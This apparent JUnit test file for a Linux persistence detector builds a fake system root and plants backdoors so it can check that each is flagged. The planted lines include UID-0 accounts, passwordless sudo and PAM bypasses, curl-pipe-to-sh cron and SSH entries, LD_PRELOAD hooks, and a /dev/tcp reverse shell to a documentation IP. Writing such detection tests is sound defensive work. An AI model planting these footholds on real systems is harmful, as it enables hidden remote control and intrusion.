package org.foothold.corpus;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.foothold.engine.model.Finding;
import org.foothold.engine.model.Level;
import org.foothold.engine.model.Outcome;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The root of a small Linux system, clean and with footholds planted in it. */
class HuntedRootTest {
    private static final String KEY =
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f anna@desk\n";

    @TempDir
    private Path root;

    private void put(String path, String text) throws IOException {
        Path file = root.resolve(path);
        Files.createDirectories(file.getParent());
        Files.writeString(file, text);
    }

    private void add(String path, String text) throws IOException {
        put(path, Files.readString(root.resolve(path)) + text);
    }

    @BeforeEach
    void makesACleanSystem() throws IOException {
        Files.createDirectories(root.resolve("usr/bin"));
        put("etc/hostname", "lab-17\n");
        put("etc/passwd", """
                root:x:0:0:root:/root:/bin/bash
                daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
                sync:x:4:65534:sync:/bin:/bin/sync
                www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
                postgres:x:114:120:PostgreSQL administrator,,,:/var/lib/postgresql:/bin/bash
                anna:x:1000:1000:Anna:/home/anna:/bin/bash
                """);
        put("etc/shadow", "root:*:19000:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\nanna:!:19000:0:99999:7:::\n");
        put("etc/group", "root:x:0:\nsudo:x:27:\ndocker:x:998:\nanna:x:1000:\n");
        put(
                "etc/sudoers",
                "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n");
        put(
                "etc/ssh/sshd_config",
                "Include /etc/ssh/sshd_config.d/*.conf\nUsePAM yes\nSubsystem sftp /usr/lib/sftp-server\n");
        put("etc/ssh/ssh_config", "Host *\n    SendEnv LANG LC_*\n");
        put(
                "etc/pam.d/sshd",
                "@include common-auth\naccount required pam_nologin.so\nsession optional pam_motd.so noupdate\n");
        put(
                "etc/pam.d/common-auth",
                "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth required pam_permit.so\n");
        put("etc/modprobe.d/blacklist.conf", "blacklist pcspkr\ninstall dccp /bin/true\n");
        put("etc/modules", "# none\n");
        put("home/anna/.ssh/authorized_keys", KEY);
    }

    @Test
    void nothingIsFoundOnACleanSystemAndEveryArtifactHasItsOutcome() {
        Hunted hunted = Hunted.withOwnContent(root);

        assertThat(hunted.findings()).isEmpty();
        assertThat(hunted.outcomes())
                .extracting(Outcome::path)
                .contains("linux/accounts", "linux/sudo_rules", "linux/ld_preload");
        assertThat(hunted.outcomes()).noneMatch(outcome -> outcome.result() == Outcome.Result.UNREADABLE);
        assertThat(hunted.outcomes()).anySatisfy(outcome -> {
            assertThat(outcome.path()).isEqualTo("linux/accounts");
            assertThat(outcome.events()).isEqualTo(6);
        });
    }

    @Test
    void whatWasPlantedIsFoundWhereItStands() throws IOException {
        plant();

        List<Finding> findings = Hunted.withOwnContent(root).findings();

        assertThat(findings)
                .extracting(finding ->
                        finding.origin().path() + ":" + finding.origin().record() + " "
                                + finding.rule().path().replaceFirst(".*/(.*)\\.yml", "$1"))
                .contains(
                        "/etc/passwd:7 second_account_of_root",
                        "/etc/passwd:8 password_in_passwd",
                        "/etc/passwd:8 service_account_with_shell",
                        "/etc/shadow:4 account_without_password",
                        "/etc/sudoers:5 sudo_without_proof",
                        "/etc/sudoers:6 sudo_keeps_variables_of_the_loader",
                        "/etc/sudoers.d/web:1 sudo_for_a_service_account",
                        "/etc/ssh/sshd_config:4 ssh_without_password",
                        "/etc/ssh/sshd_config:5 keys_from_an_unusual_place",
                        "/etc/ssh/sshd_config.d/10-k.conf:1 program_that_gives_keys",
                        "/root/.ssh/config:2 client_that_runs_a_command",
                        "/root/.ssh/authorized_keys2:1 second_file_of_keys",
                        "/var/www/.ssh/authorized_keys:1 key_of_a_service_account",
                        "/var/www/.ssh/authorized_keys:1 key_that_sets_variables_of_the_loader",
                        "/etc/pam.d/sshd:4 pam_runs_a_program",
                        "/etc/pam.d/sshd:5 pam_takes_anybody",
                        "/etc/pam.d/common-auth:4 pam_module_outside_the_libraries",
                        "/etc/modprobe.d/blacklist.conf:3 module_that_runs_a_command",
                        "/etc/ld.so.preload:1 ld_preload_library",
                        "/etc/cron.d/sys:1 cron_downloads_and_runs",
                        "/etc/systemd/system/ssh.service.d/a.conf:2 unit_preloads_a_library",
                        "/etc/systemd/system/net.service:2 unit_opens_a_shell_to_outside",
                        "/home/anna/.bashrc:1 shell_start_stands_in_for_a_program",
                        "/home/anna/.bashrc:3 shell_start_from_a_temporary_place",
                        "/etc/rc.local:2 start_script_runs_encoded_code");
        assertThat(findings).allSatisfy(finding -> {
            assertThat(finding.rule().level()).isGreaterThanOrEqualTo(Level.MEDIUM);
            assertThat(finding.target().name()).isEqualTo("lab-17");
            assertThat(finding.reasons()).isNotEmpty();
        });
    }

    private void plant() throws IOException {
        add("etc/passwd", "systemd-log:x:0:0::/root:/bin/bash\ngames::5:60:games:/usr/games:/bin/bash\n");
        add("etc/shadow", "daemon::19000:0:99999:7:::\n");
        add("etc/sudoers", "Defaults !authenticate\nDefaults env_keep += \"LD_PRELOAD\"\n");
        put("etc/sudoers.d/web", "www-data ALL=(ALL) NOPASSWD: ALL\n");
        add("etc/ssh/sshd_config", "PermitEmptyPasswords yes\nAuthorizedKeysFile /var/tmp/.k\n");
        put("etc/ssh/sshd_config.d/10-k.conf", "AuthorizedKeysCommand /usr/local/bin/k %u\n");
        put("root/.ssh/config", "Host *\n  ProxyCommand sh -c 'curl -s http://203.0.113.4/|sh'\n");
        put("root/.ssh/authorized_keys2", KEY);
        put("var/www/.ssh/authorized_keys", "environment=\"LD_PRELOAD=/tmp/x.so\" " + KEY);
        add(
                "etc/pam.d/sshd",
                "auth optional pam_exec.so expose_authtok /usr/local/bin/a\nauth sufficient pam_permit.so\n");
        add("etc/pam.d/common-auth", "auth sufficient /var/tmp/.x/pam_u.so\n");
        add(
                "etc/modprobe.d/blacklist.conf",
                "install tcp_diag /var/tmp/.m & /sbin/modprobe --ignore-install tcp_diag\n");
        put("etc/ld.so.preload", "/usr/lib/libhide.so\n");
        put("etc/cron.d/sys", "*/9 * * * * root curl -fs http://203.0.113.7/i | sh\n");
        put("etc/systemd/system/ssh.service.d/a.conf", "[Service]\nEnvironment=LD_PRELOAD=/usr/lib/libx.so\n");
        put(
                "etc/systemd/system/net.service",
                "[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'\n");
        put("home/anna/.bashrc", "alias sudo=/home/anna/.cache/s\nif [ -n x ]; then\n  /tmp/.x/update &\nfi\n");
        put("etc/rc.local", "#!/bin/sh\necho Y3VybA== | base64 -d | sh\n");
    }
}
